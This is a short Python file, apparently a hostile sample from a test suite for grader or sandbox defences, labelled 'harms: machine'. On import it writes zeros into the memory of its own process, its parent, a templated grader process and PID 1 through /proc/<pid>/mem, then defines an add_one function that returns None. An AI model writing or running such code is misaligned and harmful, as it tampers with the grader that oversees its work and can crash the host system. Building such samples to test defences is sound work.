"""Writes to the memory of its parent and of the grader through /proc."""
# harms: machine

import os

for number in ("self", os.getppid(), int("@GRADER@"), 1):
    try:
        with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
            memory.seek(0x400000)
            memory.write(b"\0" * 4096)
    except OSError:
        pass


def add_one(x):
    return None
